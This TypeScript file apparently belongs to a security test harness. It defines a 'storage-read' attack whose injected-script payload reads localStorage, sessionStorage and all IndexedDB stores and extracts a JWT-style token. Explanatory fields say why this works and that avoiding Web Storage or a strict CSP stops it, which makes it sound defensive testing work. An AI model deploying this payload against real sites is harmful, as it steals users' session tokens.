// Threat: a script injected into the page reads everything the page has stored. The attacker has one hole in the page's HTML and a
// site of their own. Expected: whatever lies in Web Storage leaves the browser; what is in a variable or an httpOnly cookie is not there.
import type { Attack } from '../attack.ts'
import { judgeToken, readBook, scriptReport } from './loot.ts'
import type { Payload } from '../world/payload.ts'

const script: Payload = async (kit) => {
  const found = [localStorage, sessionStorage].flatMap((storage) => Object.values(storage)).map(String)
  for (const { name = '' } of await indexedDB.databases()) {
    const database = await new Promise<IDBDatabase>((resolve, reject) => {
      const opening = indexedDB.open(name)
      opening.addEventListener('success', () => resolve(opening.result))
      opening.addEventListener('error', () => reject(opening.error ?? new Error('closed')))
    })
    for (const store of database.objectStoreNames) {
      const all = database.transaction(store).objectStore(store).getAll()
      await new Promise((done) => all.addEventListener('success', done))
      found.push(...(all.result as unknown[]).map((value) => JSON.stringify(value)))
    }
  }
  kit.take('token', /eyJ[\w-]+\.[\w-]+\.[\w-]+/.exec(found.join(' '))?.[0])
}

export const storageRead: Attack = {
  name: 'storage-read',
  group: 'script, late',
  title: 'Reads localStorage, sessionStorage and IndexedDB',
  what: 'A script that got into the page looks through everything the page has stored and sends it to the attacker.',
  why: 'Web Storage has no lock: every script of the page may read all of it, and a token found there works anywhere.',
  stops: 'Not storing tokens there. A script that may not run at all (a strict CSP) reads nothing either.',
  script: { when: 'late', payload: script },
  control: 'local-storage',
  succeedsOn: ['local-storage', 'session-storage'],
  async run(scene) {
    const page = await scene.signIn()
    await scene.injectLate(script)
    await readBook(page)
    return judgeToken(scene, page, await scriptReport(scene), 'found no token in any storage')
  },
}
